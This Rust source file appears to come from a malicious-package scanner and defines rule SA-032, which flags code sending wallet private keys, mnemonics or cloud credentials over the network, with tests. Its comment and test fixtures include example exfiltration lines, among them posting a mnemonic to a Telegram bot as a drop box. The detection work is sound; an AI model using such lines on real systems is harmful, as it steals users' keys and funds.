//! `SA-032` secret value sent (capability). Finds a network call given a value whose name says
//! it is a secret worth stealing: a wallet's `private_key` or `mnemonic`, a cloud
//! `secret_key` or `access_key`, the result of `get_credentials()`, or a name bound from one.
//!
//! Why: wallet drainers and cloud-key thieves do not read a file; they take the key the victim
//! passes to a look-alike SDK and post it. Example: `requests.post("https://x.mockapi.io/k",
//! json={"key": private_key})`. Known false positives: SDKs that send an access key id to
//! their own service to sign requests; a capability, it counts only beside a drop box (a
//! webhook, a callback host, a bare IP, a paste host), where it makes SA-100.

use super::{Ctx, Hit, Kind, Rule};
use scioc_model::Behaviour;

pub(crate) const RULE: Rule = Rule {
    id: "SA-032",
    name: "secret value sent",
    kind: Kind::Capability,
    behaviour: Behaviour::Infostealer,
    weight: 1,
};

pub(crate) fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    if let Some(s) = ctx.facts.secrets_sent.first() {
        out.push(Hit::new(&RULE, s.line, format!("sends {} over the network", s.name)));
    }
}

#[cfg(test)]
mod tests {
    use super::super::fixture::*;
    use crate::package::SourceFile;
    use crate::rules::{Ctx, check};

    /// The rules and correlations of one file.
    fn correlated(path: &str, source: &str) -> Vec<&'static str> {
        let file = SourceFile::new(path, source.as_bytes().to_vec(), false);
        let facts = crate::facts_of(&file);
        let mut hits = check(&Ctx { file: &file, facts: &facts, place: LIBRARY, natives: &[] });
        crate::verdict::correlate(&mut hits, LIBRARY);
        hits.iter().map(|h| h.rule.id).collect()
    }

    #[test]
    fn a_key_passed_to_a_request_fires() {
        let posted = "import requests\ndef check(private_key):\n    requests.post('https://x.example/k', json={'k': private_key})\n";
        assert!(fired("w.py", posted, LIBRARY).contains(&"SA-032"));
        let bound = "import requests\nfrom boto3 import Session\nc = Session().get_credentials()\nbody = {'a': c.access_key}\nrequests.post(u, data=body)\n";
        assert!(fired("w.py", bound, LIBRARY).contains(&"SA-032"));
        // Beside a drop box it is a theft.
        let drop = "import requests\ndef check(mnemonic):\n    requests.get(f'https://api.telegram.org/bot1:x/sendMessage?text={mnemonic}')\n";
        assert!(correlated("w.py", drop).contains(&"SA-100"), "{:?}", correlated("w.py", drop));
    }

    #[test]
    fn near_misses() {
        // Signing with a key and sending the signature, a password to a login API.
        let sign = "import requests, hmac\nsig = hmac.new(secret, msg).hexdigest()\nrequests.post(u, headers={'X-Sig': sig})\n";
        assert!(!fired("s.py", sign, LIBRARY).contains(&"SA-032"));
        let login = "import requests\nrequests.post(u, json={'user': user, 'password': password})\n";
        assert!(!fired("s.py", login, LIBRARY).contains(&"SA-032"));
        // A capability: alone it makes no verdict.
        let alone = "import requests\ndef f(private_key):\n    requests.post('https://api.example/keys', json={'k': private_key})\n";
        assert!(!correlated("w.py", alone).contains(&"SA-100"));
    }
}
